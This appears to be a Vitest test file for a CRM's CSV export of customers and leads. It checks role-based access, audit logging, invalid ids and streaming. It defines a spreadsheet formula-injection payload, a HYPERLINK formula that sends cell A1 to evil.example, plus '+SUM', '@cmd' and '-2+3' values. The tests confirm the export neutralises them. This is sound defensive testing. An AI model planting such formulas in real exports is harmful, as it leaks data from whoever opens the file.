import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Actor } from "@/lib/platform/auth/permissions";
import { exportCustomers } from "@/lib/customers/export";
import { createCustomer } from "@/lib/customers/mutations";
import { exportLeads } from "@/lib/leads/export";
import { createLead } from "@/lib/leads/mutations";
import { csvExportResponse } from "@/lib/platform/export/csv-exporter";
import { customerInputSchema } from "@/lib/customers/schema";
import { leadInputSchema } from "@/lib/leads/schema";
import { createPeople, type People } from "../support/fixtures";
import { createTestDatabase, type TestDatabase } from "../support/test-db";

let db: TestDatabase;
let people: People;

const ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")';

beforeAll(async () => {
  db = await createTestDatabase();
  people = await createPeople(db);
  const customer = (actor: Actor, name: string, extra: Record<string, unknown> = {}) => createCustomer(actor, customerInputSchema.parse({ kind: "ENTERPRISE", region: "East China", name, ...extra }));
  // Any role may create a customer, so anyone can plant a formula in a name a colleague later exports.
  await customer(people.repEast, ATTACK, { company: "+SUM(1,2)", notes: "@cmd" });
  await customer(people.repEast, "East Own Co", { email: "own@east.test" });
  await customer(people.repWest, "West Own Co", { industry: "-2+3" });
  const lead = (actor: Actor, name: string, ownerId?: number | null) => createLead(actor, leadInputSchema.parse({ name, source: "Fair", ownerId }));
  await lead(people.repEast, "Lead East");
  await lead(people.repWest, "Lead West");
  await lead(people.admin, "Lead Nobody", null);
});
afterAll(() => db.close());

async function csv(response: Response): Promise<string[][]> {
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toContain("text/csv");
  return parse((await response.text()).replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][];
}

const column = (rows: string[][], name: string) => rows.slice(1).map((r) => r[rows[0].indexOf(name)]);
const lastExport = (userId: number) => db.prisma.auditLog.findFirstOrThrow({ where: { action: "EXPORT", userId }, orderBy: { id: "desc" } });

describe("customer export", () => {
  test("security: a formula in a customer's fields is written as text, never as a live formula", async () => {
    const rows = await csv(await exportCustomers(people.admin, new URLSearchParams()));
    expect(column(rows, "name")).toContain(`'${ATTACK}`);
    expect(column(rows, "company")).toContain("'+SUM(1,2)");
    expect(column(rows, "industry")).toContain("'-2+3");
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test("every export writes an audit row: who, what, the filters and the number of rows", async () => {
    const rows = await csv(await exportCustomers(people.managerEast, new URLSearchParams({ q: "Own Co", sort: "name" })));
    expect(column(rows, "name")).toEqual(["East Own Co", "West Own Co"]);
    const audit = await lastExport(people.managerEast.id);
    expect(audit).toMatchObject({ entity: "Customer", changes: { filters: { q: "Own Co" }, rows: 2, complete: true } });
  });

  test("a rep exports their own customers only; an agent may not export and the refusal is logged", async () => {
    const mine = await csv(await exportCustomers(people.repEast, new URLSearchParams()));
    expect(column(mine, "name").sort()).toEqual(["East Own Co", `'${ATTACK}`].sort());
    const west = await db.prisma.customer.findFirstOrThrow({ where: { name: "West Own Co" } });
    const selection = await csv(await exportCustomers(people.repEast, new URLSearchParams({ ids: String(west.id) })));
    expect(selection).toHaveLength(1);
    const response = await exportCustomers(people.agent, new URLSearchParams());
    expect(response.status).toBe(403);
    expect(await db.prisma.auditLog.count({ where: { action: "DENIED", entity: "Customer", userId: people.agent.id } })).toBe(1);
    expect(await db.prisma.auditLog.count({ where: { action: "EXPORT", userId: people.agent.id } })).toBe(0);
    expect((await exportCustomers(null, new URLSearchParams())).status).toBe(401);
  });

  test("a selection with ids no customer can have (beyond int4, not numbers) is an empty export, not an error", async () => {
    const rows = await csv(await exportCustomers(people.admin, new URLSearchParams({ ids: "99999999999,abc,-1,2147483648" })));
    expect(rows).toHaveLength(1);
    expect(rows[0][0]).toBe("id");
    expect((await lastExport(people.admin.id)).changes).toMatchObject({ filters: { ids: [] }, rows: 0 });
  });
});

describe("lead export", () => {
  test.each([
    ["repEast", ["Lead East"]],
    ["managerEast", ["Lead East", "Lead Nobody"]],
    ["admin", ["Lead East", "Lead Nobody", "Lead West"]],
  ] as const)("%s exports %j: what they may both read and export", async (who, names) => {
    const rows = await csv(await exportLeads(people[who], new URLSearchParams({ q: "Lead" })));
    expect(column(rows, "name").sort()).toEqual([...names]);
    expect((await lastExport(people[who].id)).changes).toMatchObject({ filters: { q: "Lead" }, rows: names.length, complete: true });
  });

  test("an agent may not export leads", async () => {
    expect((await exportLeads(people.agent, new URLSearchParams())).status).toBe(403);
  });
});

describe("the exporter", () => {
  test("streams: batches are read only as the client reads, and a cancelled download is audited as incomplete", async () => {
    let produced = 0;
    async function* batches() {
      for (let i = 0; i < 1000; i++) {
        produced++;
        yield [{ n: i }];
      }
    }
    const response = csvExportResponse({ actor: people.admin, entity: "Test", fileStem: "test", filters: { probe: true }, columns: [{ header: "n", value: (r: { n: number }) => r.n }], batches: batches() });
    const reader = response.body!.getReader();
    await reader.read();
    await reader.read();
    expect(produced).toBeLessThanOrEqual(3);
    await reader.cancel();
    const audit = await db.prisma.auditLog.findFirstOrThrow({ where: { action: "EXPORT", entity: "Test" } });
    expect(audit.changes).toMatchObject({ filters: { probe: true }, complete: false });
    expect((audit.changes as { rows: number }).rows).toBeLessThanOrEqual(3);
  });
});
